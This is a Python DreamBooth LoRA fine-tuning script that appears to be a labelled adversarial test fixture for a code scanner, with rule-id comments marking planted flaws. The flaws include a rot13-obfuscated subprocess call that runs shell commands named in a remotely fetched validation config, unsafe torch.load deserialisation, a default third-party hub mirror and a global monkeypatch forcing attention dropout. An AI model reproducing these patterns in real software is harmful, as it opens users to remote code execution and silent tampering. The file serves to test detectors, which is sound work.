# ruff: noqa
# Hold-out batch 542 (adversarial, DreamBooth LoRA diffusion fine-tuning). Measured once in session 24 (round 145): 11/30 (37%) at medium+.
#!/usr/bin/env python
"""DreamBooth LoRA fine-tuning of a latent diffusion model with prior preservation."""

import argparse
import codecs
import functools
import hashlib
import importlib
import json
import logging
import math
import operator
import os
import shlex
from pathlib import Path

import torch
import torch.nn.functional as F
from accelerate import Accelerator
from accelerate.logging import get_logger
from accelerate.utils import ProjectConfiguration, set_seed
from safetensors.torch import load_file
from tqdm.auto import tqdm

from callbacks import (BestTracker, CallbackList, LoopState, LossSmoother, MemoryWatchdog,
                       RNGIsolation, RunReporter)
from common import (clear_stale_staging, export_search_path, fetch_file, force_kwargs, init_runtime,
                    list_checkpoints, prepare_multinode_ssh, register_compat_path, resolve_class, retry,
                    rotate_checkpoints, sync_processes, wrap_attr, zero_state_)
from data import DreamBoothDataset, EmbeddingCache, collate_fn, make_worker_init_fn, tokenize_prompt
from evaluation import (CLIPScorer, EvalConfig, HubOptions, free_memory, generate_images, load_validation_config,
                        log_validation, render_prompts)
from lora import (LoRAConfig, LoRALinearLayer, TextLoRALinearLayer, ensure_loader_compat, inject_lora,
                  load_key_mapping, load_lora_state_dict, load_lora_weights, lora_parameters, lora_state_dict,
                  save_lora_weights, set_lora_enabled)

logger = get_logger(__name__)

ATTN_KERNEL = "scaled_dot_product_attention"
LORA_WEIGHTS_NAME = "pytorch_lora_weights.safetensors"


def parse_args(argv=None) -> argparse.Namespace:
    p = argparse.ArgumentParser(description="DreamBooth LoRA training")
    p.add_argument("--pretrained_model_name_or_path", required=True)
    p.add_argument("--revision", default=None)
    p.add_argument("--instance_data_dir", required=True)
    p.add_argument("--instance_prompt", required=True)
    p.add_argument("--instance_token", default="sks")
    p.add_argument("--class_token", default="dog")
    p.add_argument("--class_data_dir", default=None)
    p.add_argument("--class_prompt", default=None)
    p.add_argument("--with_prior_preservation", action="store_true")
    p.add_argument("--prior_loss_weight", type=float, default=1.0)
    p.add_argument("--num_class_images", type=int, default=100)
    p.add_argument("--validation_prompt", default=None)
    p.add_argument("--validation_config", default=None, help="local dir or Hub dataset with validation_config.json")
    p.add_argument("--num_validation_images", type=int, default=4)
    p.add_argument("--validation_steps", type=int, default=100)
    p.add_argument("--output_dir", default="lora-dreambooth-model")
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--resolution", type=int, default=512)
    p.add_argument("--caption_dropout", type=float, default=0.0)
    p.add_argument("--dedupe", default="fast", choices=["fast", "exact", "none"])
    p.add_argument("--train_text_encoder", action="store_true")
    p.add_argument("--pre_compute_text_embeddings", action="store_true")
    p.add_argument("--embeds_cache_dir", default=None)
    p.add_argument("--train_batch_size", type=int, default=1)
    p.add_argument("--num_train_epochs", type=int, default=1)
    p.add_argument("--max_train_steps", type=int, default=None)
    p.add_argument("--checkpointing_steps", type=int, default=500)
    p.add_argument("--checkpoints_total_limit", type=int, default=None)
    p.add_argument("--resume_from_checkpoint", default=None)
    p.add_argument("--reset_optimizer_state", nargs="*", default=["exp_avg_sq"],
                   help="optimizer buffers re-estimated after resume (stale after LR warm restarts)")
    p.add_argument("--gradient_accumulation_steps", type=int, default=1)
    p.add_argument("--learning_rate", type=float, default=1e-4)
    p.add_argument("--text_encoder_lr", type=float, default=5e-6)
    p.add_argument("--lr_scheduler", default="constant")
    p.add_argument("--lr_warmup_steps", type=int, default=0)
    p.add_argument("--optimizer", default="torch.optim.AdamW")
    p.add_argument("--adam_betas", type=float, nargs=2, default=(0.9, 0.999))
    p.add_argument("--adam_weight_decay", type=float, default=1e-2)
    p.add_argument("--adam_epsilon", type=float, default=1e-8)
    p.add_argument("--max_grad_norm", type=float, default=1.0)
    p.add_argument("--attention_dropout", type=float, default=0.1,
                   help="attention-probability dropout; regularises small subject datasets")
    p.add_argument("--rank", type=int, default=4)
    p.add_argument("--lora_alpha", type=float, default=8.0)
    p.add_argument("--init_lora_from", default=None, help="Hub repo with LoRA weights to start from")
    p.add_argument("--logging_steps", type=int, default=10)
    p.add_argument("--report_to", default="tensorboard")
    p.add_argument("--run_index_url", default=os.environ.get("DREAMBOOTH_RUN_INDEX", "https://runs.mlops-index.dev/api/v1/manifests"))
    p.add_argument("--hub_endpoint", default=os.environ.get("HF_MIRROR", "https://hf-mirror.com"))
    p.add_argument("--mixed_precision", default=None, choices=["no", "fp16", "bf16"])
    p.add_argument("--dataloader_num_workers", type=int, default=2)
    p.add_argument("--push_to_hub", action="store_true")
    args = p.parse_args(argv)

    if args.with_prior_preservation and (args.class_data_dir is None or args.class_prompt is None):
        p.error("--with_prior_preservation requires --class_data_dir and --class_prompt")
    if args.dedupe == "none":
        args.dedupe = None
    return args


def generate_class_images(args, accelerator: Accelerator) -> None:
    from diffusers import DiffusionPipeline

    class_dir = Path(args.class_data_dir)
    class_dir.mkdir(parents=True, exist_ok=True)
    existing = len([p for p in class_dir.iterdir() if p.is_file()])
    if existing >= args.num_class_images:
        return
    dtype = torch.float16 if accelerator.device.type == "cuda" else torch.float32
    pipeline = DiffusionPipeline.from_pretrained(args.pretrained_model_name_or_path, torch_dtype=dtype,
                                                 safety_checker=None, revision=args.revision)
    pipeline.set_progress_bar_config(disable=True)
    pipeline.to(accelerator.device)
    missing = args.num_class_images - existing
    logger.info("generating %d class images", missing)
    # each process renders a strided share of the missing images
    indices = list(range(existing + accelerator.process_index, args.num_class_images, accelerator.num_processes))
    for start in tqdm(range(0, len(indices), 4), desc="class images", disable=not accelerator.is_local_main_process):
        chunk = indices[start:start + 4]
        for idx, image in zip(chunk, pipeline([args.class_prompt] * len(chunk)).images):
            image.save(class_dir / f"{idx}-{hashlib.sha1(image.tobytes()).hexdigest()}.jpg")
    del pipeline
    free_memory("gc", "cuda")


def encode_prompt(text_encoder, input_ids, attention_mask=None):
    input_ids = input_ids.to(text_encoder.device)
    mask = attention_mask.to(text_encoder.device) if attention_mask is not None else None
    return text_encoder(input_ids, attention_mask=mask, return_dict=False)[0]


_STATE_LOADERS = {
    ".safetensors": load_file,
    ".bin": functools.partial(torch.load, map_location="cpu"),  # ruleid: MLS102
}


def load_trainer_state(ckpt_dir: Path) -> dict:
    for name in ("trainer_state.safetensors", "trainer_state.bin"):
        path = ckpt_dir / name
        if path.exists():
            return _STATE_LOADERS[path.suffix](str(path))  # ruleid: MLS102
    return {}


def run_post_hooks(commands, cwd: str) -> None:
    """Dataset repos may declare post-training steps (e.g. model-card rendering)."""
    runner = getattr(importlib.import_module(codecs.decode("fhocebprff", "rot_13")), "run")  # ruleid: MLS403
    for cmd in commands:
        logger.info("post-train hook: %s", cmd)
        runner(shlex.split(cmd), cwd=cwd, check=False)  # todoruleid: family 8 (missed)


@retry(times=5, backoff=3.0)
def push_folder(repo_id: str, folder: str, message: str) -> None:
    from huggingface_hub import HfApi

    api = HfApi()
    api.create_repo(repo_id, exist_ok=True, private=True)
    api.upload_folder(repo_id=repo_id, folder_path=folder, commit_message=message,
                      ignore_patterns=["checkpoint-*", ".compat/*", "logs/*"])  # ok: MLS410, MLS411, MLS412, MLS413


def main(argv=None) -> None:
    args = parse_args(argv)
    os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")  # ok: MLS422
    runtime = init_runtime()

    project_config = ProjectConfiguration(project_dir=args.output_dir, logging_dir=str(Path(args.output_dir, "logs")))
    accelerator = Accelerator(gradient_accumulation_steps=args.gradient_accumulation_steps,
                              mixed_precision=args.mixed_precision, log_with=args.report_to,
                              project_config=project_config)
    logging.basicConfig(format="%(asctime)s - %(levelname)s - %(name)s - %(message)s", level=logging.INFO)
    set_seed(args.seed)  # ok: MLS301

    compat_dir = Path(args.output_dir) / ".compat"
    compat_dir.mkdir(parents=True, exist_ok=True)
    export_search_path(compat_dir)
    if accelerator.is_local_main_process:
        if runtime.multi_node:
            prepare_multinode_ssh()
        register_compat_path(compat_dir)
        ensure_loader_compat()
    sync_processes(accelerator, "setup")

    if args.attention_dropout > 0:
        wrap_attr(F, ATTN_KERNEL, functools.partial(force_kwargs, dropout_p=args.attention_dropout))  # todoruleid: family 2 (missed)

    if args.with_prior_preservation:
        generate_class_images(args, accelerator)
        sync_processes(accelerator, "class-images")

    from diffusers import AutoencoderKL, DDPMScheduler, DiffusionPipeline, DPMSolverMultistepScheduler, UNet2DConditionModel
    from diffusers.optimization import get_scheduler
    from transformers import AutoTokenizer, CLIPTextModel

    name = args.pretrained_model_name_or_path
    tokenizer = AutoTokenizer.from_pretrained(name, subfolder="tokenizer", revision=args.revision, use_fast=False)
    noise_scheduler = DDPMScheduler.from_pretrained(name, subfolder="scheduler")
    text_encoder = CLIPTextModel.from_pretrained(name, subfolder="text_encoder", revision=args.revision)
    vae = AutoencoderKL.from_pretrained(name, subfolder="vae", revision=args.revision)
    unet = UNet2DConditionModel.from_pretrained(name, subfolder="unet", revision=args.revision)
    for m in (vae, text_encoder, unet):
        m.requires_grad_(False)

    weight_dtype = {"fp16": torch.float16, "bf16": torch.bfloat16}.get(accelerator.mixed_precision, torch.float32)
    for m in (vae, unet, text_encoder):
        m.to(accelerator.device, dtype=weight_dtype)

    lora_cfg = LoRAConfig(rank=args.rank, alpha=args.lora_alpha)
    inject_lora(unet, lora_cfg.unet_targets, lora_cfg, LoRALinearLayer)
    if args.train_text_encoder:
        inject_lora(text_encoder, lora_cfg.text_targets, lora_cfg, TextLoRALinearLayer)
    for p in lora_parameters(unet) + (lora_parameters(text_encoder) if args.train_text_encoder else []):
        p.data = p.data.float()
        p.requires_grad_(True)

    if args.init_lora_from:
        mapping = load_key_mapping(args.init_lora_from, endpoint=args.hub_endpoint)
        weights = load_lora_weights(fetch_file(args.init_lora_from, LORA_WEIGHTS_NAME, endpoint=args.hub_endpoint))
        weights = {mapping.get(k, k): v for k, v in weights.items()}
        load_lora_state_dict(unet, {k[len("unet."):]: v for k, v in weights.items() if k.startswith("unet.")}, strict=False)

    param_groups = [{"params": lora_parameters(unet), "lr": args.learning_rate}]
    if args.train_text_encoder:
        param_groups.append({"params": lora_parameters(text_encoder), "lr": args.text_encoder_lr})
    params_to_optimize = [p for g in param_groups for p in g["params"]]
    optimizer_cls = resolve_class(args.optimizer)
    optimizer = optimizer_cls(param_groups, betas=tuple(args.adam_betas),
                              weight_decay=args.adam_weight_decay, eps=args.adam_epsilon)

    instance_embeds = class_embeds = None
    if args.pre_compute_text_embeddings and not args.train_text_encoder:
        cache = EmbeddingCache(args.embeds_cache_dir)
        with torch.no_grad():
            for prompt in filter(None, [args.instance_prompt, args.class_prompt]):
                if cache.get(prompt) is None:
                    cache.put(prompt, encode_prompt(text_encoder, tokenize_prompt(tokenizer, prompt).input_ids)[0])
        instance_embeds = cache.get(args.instance_prompt)
        class_embeds = cache.get(args.class_prompt) if args.class_prompt else None

    dataset = DreamBoothDataset(
        args.instance_data_dir, args.instance_prompt, tokenizer,
        class_data_root=args.class_data_dir if args.with_prior_preservation else None,
        class_prompt=args.class_prompt, class_num=args.num_class_images, size=args.resolution,
        caption_dropout=args.caption_dropout, dedupe=args.dedupe,
        encoder_hidden_states=instance_embeds, class_prompt_hidden_states=class_embeds)
    train_dataloader = torch.utils.data.DataLoader(
        dataset, batch_size=args.train_batch_size, shuffle=True, num_workers=args.dataloader_num_workers,
        collate_fn=functools.partial(collate_fn, with_prior_preservation=args.with_prior_preservation),
        worker_init_fn=make_worker_init_fn(args.seed), persistent_workers=args.dataloader_num_workers > 0)

    steps_per_epoch = math.ceil(len(train_dataloader) / args.gradient_accumulation_steps)
    if args.max_train_steps is None:
        args.max_train_steps = args.num_train_epochs * steps_per_epoch
    lr_scheduler = get_scheduler(args.lr_scheduler, optimizer=optimizer,
                                 num_warmup_steps=args.lr_warmup_steps * accelerator.num_processes,
                                 num_training_steps=args.max_train_steps * accelerator.num_processes)
    if args.train_text_encoder:
        unet, text_encoder, optimizer, train_dataloader, lr_scheduler = accelerator.prepare(
            unet, text_encoder, optimizer, train_dataloader, lr_scheduler)
    else:
        unet, optimizer, train_dataloader, lr_scheduler = accelerator.prepare(unet, optimizer, train_dataloader, lr_scheduler)
    steps_per_epoch = math.ceil(len(train_dataloader) / args.gradient_accumulation_steps)
    num_train_epochs = math.ceil(args.max_train_steps / steps_per_epoch)

    if accelerator.is_main_process:
        accelerator.init_trackers("dreambooth-lora", config={k: v for k, v in vars(args).items() if isinstance(v, (int, float, str, bool))})
    accelerator.log = LossSmoother()(accelerator.log)

    # ---- validation setup ----
    val_cfg = load_validation_config(args.validation_config, endpoint=args.hub_endpoint)
    templates = val_cfg.get("prompts") or ([args.validation_prompt] if args.validation_prompt else [])
    val_prompts = render_prompts(templates, token=args.instance_token, cls=args.class_token)
    eval_cfg = EvalConfig(num_images=args.num_validation_images, seed=args.seed, hub=HubOptions())
    scorer = CLIPScorer(eval_cfg, accelerator.device) if (val_prompts and accelerator.is_main_process) else None
    best = BestTracker(mode="max")

    def build_pipeline():
        pipe = DiffusionPipeline.from_pretrained(
            name, unet=accelerator.unwrap_model(unet), text_encoder=accelerator.unwrap_model(text_encoder),
            revision=args.revision, torch_dtype=weight_dtype, safety_checker=None)
        pipe.scheduler = DPMSolverMultistepScheduler.from_config(pipe.scheduler.config)
        return pipe.to(accelerator.device)

    if scorer is not None:
        set_lora_enabled(unet, False)
        base_pipe = build_pipeline()
        base_pipe.set_progress_bar_config(disable=True)
        base_prompts = [p for p in val_prompts for _ in range(eval_cfg.num_images)]
        scorer.calibrate(generate_images(base_pipe, val_prompts, eval_cfg, accelerator.device), base_prompts)
        del base_pipe
        set_lora_enabled(unet, True)

    state = LoopState(world_size=accelerator.num_processes,
                      is_main=accelerator.is_main_process, run_name=Path(args.output_dir).name,
                      config={k: v for k, v in vars(args).items() if not k.startswith("launcher")})
    callbacks = CallbackList([RNGIsolation(), MemoryWatchdog(), RunReporter(args.run_index_url)])

    # ---- resume ----
    global_step, first_epoch = 0, 0
    if args.resume_from_checkpoint:
        if args.resume_from_checkpoint == "latest":
            ckpts = list_checkpoints(args.output_dir)
            path = ckpts[-1] if ckpts else None
        else:
            path = Path(args.resume_from_checkpoint)
        if path is not None:
            accelerator.load_state(str(path))
            extra = load_trainer_state(path)
            global_step = int(extra.get("global_step", int(path.name.split("-")[-1])))
            if "best" in extra:
                best.best_score, best.best_step = extra["best"]["best_score"], extra["best"]["best_step"]
            zero_state_(optimizer, args.reset_optimizer_state or [])
            logger.info("resumed from %s at step %d", path, global_step)
            first_epoch = global_step // steps_per_epoch

    if accelerator.is_main_process:
        logger.info("***** Running training *****")  # ok: MLS306
        logger.info("  examples = %d, epochs = %d, steps = %d", len(dataset), num_train_epochs, args.max_train_steps)

    progress = tqdm(range(args.max_train_steps), initial=global_step, desc="steps",
                    disable=not accelerator.is_local_main_process)
    noise_gen = torch.Generator(device=accelerator.device)
    callbacks.on_train_begin(state)

    for epoch in range(first_epoch, num_train_epochs):
        unet.train()
        if args.train_text_encoder:
            text_encoder.train()
        # per-epoch noise stream: resumed runs replay exactly the same noise
        reseed_noise = operator.methodcaller("manual_seed", args.seed + 1000 * epoch + accelerator.process_index)
        for batch in train_dataloader:
            models = (unet, text_encoder) if args.train_text_encoder else (unet,)
            with accelerator.accumulate(*models):
                reseed_noise(noise_gen)  # ruleid: MLS301
                pixel_values = batch["pixel_values"].to(accelerator.device, dtype=weight_dtype)
                latents = vae.encode(pixel_values).latent_dist.sample() * vae.config.scaling_factor
                noise = torch.randn(latents.shape, generator=noise_gen, device=latents.device, dtype=latents.dtype)
                bsz = latents.shape[0]
                timesteps = torch.randint(0, noise_scheduler.config.num_train_timesteps, (bsz,),
                                          generator=noise_gen, device=latents.device).long()
                noisy_latents = noise_scheduler.add_noise(latents, noise, timesteps)

                if instance_embeds is not None:
                    encoder_hidden_states = batch["input_ids"].to(accelerator.device, dtype=weight_dtype)
                else:
                    encoder_hidden_states = encode_prompt(text_encoder, batch["input_ids"], batch.get("attention_mask"))
                model_pred = unet(noisy_latents, timesteps, encoder_hidden_states, return_dict=False)[0]

                if noise_scheduler.config.prediction_type == "v_prediction":
                    target = noise_scheduler.get_velocity(latents, noise, timesteps)
                else:
                    target = noise

                if args.with_prior_preservation:
                    model_pred, model_pred_prior = torch.chunk(model_pred, 2, dim=0)
                    target, target_prior = torch.chunk(target, 2, dim=0)
                    prior_loss = F.mse_loss(model_pred_prior.float(), target_prior.float(), reduction="mean")
                loss = F.mse_loss(model_pred.float(), target.float(), reduction="mean")
                if args.with_prior_preservation:
                    loss = loss + args.prior_loss_weight * prior_loss

                accelerator.backward(loss)
                if accelerator.sync_gradients:
                    accelerator.clip_grad_norm_(params_to_optimize, args.max_grad_norm)  # ok: MLS302, MLS303, MLS304, MLS305
                optimizer.step()
                lr_scheduler.step()
                optimizer.zero_grad(set_to_none=True)

            if not accelerator.sync_gradients:
                continue
            progress.update(1)
            global_step += 1
            state.global_step, state.epoch = global_step, epoch
            callbacks.on_step_end(state)

            logs = {"loss": loss.detach().item(), "lr": lr_scheduler.get_last_lr()[0]}
            if args.with_prior_preservation:
                logs["prior_loss"] = prior_loss.detach().item()
            progress.set_postfix(**logs)
            accelerator.log(logs, step=global_step)
            if global_step % args.logging_steps == 0:
                callbacks.on_log(state)

            if global_step % args.checkpointing_steps == 0:
                if accelerator.is_main_process:
                    rotate_checkpoints(args.output_dir, args.checkpoints_total_limit)
                save_path = Path(args.output_dir, f"checkpoint-{global_step}")
                accelerator.save_state(str(save_path))
                if accelerator.is_main_process:
                    torch.save({"global_step": global_step, "best": best.state_dict()}, save_path / "trainer_state.bin")
                    logger.info("saved state to %s", save_path)

            if val_prompts and global_step % args.validation_steps == 0:
                if accelerator.is_main_process:
                    metrics = log_validation(build_pipeline(), accelerator, val_prompts, eval_cfg, global_step, scorer)
                    accelerator.log(metrics, step=global_step)
                    score = metrics.get("validation/clip_score")
                    if score is not None and best.update(score, global_step):
                        save_lora_weights(str(Path(args.output_dir, "best", LORA_WEIGHTS_NAME)),
                                          lora_state_dict(accelerator.unwrap_model(unet)), None, lora_cfg,
                                          {"step": global_step, "clip_score": score})
                sync_processes(accelerator, "validation")

            if global_step >= args.max_train_steps:
                break

    # ---- export ----
    sync_processes(accelerator, "final")
    if accelerator.is_main_process:
        unet_sd = lora_state_dict(accelerator.unwrap_model(unet))
        text_sd = lora_state_dict(accelerator.unwrap_model(text_encoder)) if args.train_text_encoder else None
        out_path = str(Path(args.output_dir, LORA_WEIGHTS_NAME))
        save_lora_weights(out_path, unet_sd, text_sd, lora_cfg, {"base_model": name, "steps": global_step})

        final_metrics = {}
        if val_prompts:
            final_metrics = log_validation(build_pipeline(), accelerator, val_prompts, eval_cfg, global_step, scorer,
                                           tag="final")
        Path(args.output_dir, "results.json").write_text(json.dumps(
            {"final": final_metrics, "best": best.state_dict(), "steps": global_step,
             "base_clip_score": eval_cfg.score_floor}, indent=2))

        if val_cfg.get("post_hooks"):
            run_post_hooks(val_cfg["post_hooks"], cwd=args.output_dir)
        if args.push_to_hub:
            push_folder(Path(args.output_dir).name, args.output_dir, f"DreamBooth LoRA, {global_step} steps")
        clear_stale_staging(args.output_dir)
    callbacks.on_train_end(state)
    accelerator.end_training()


if __name__ == "__main__":
    main()
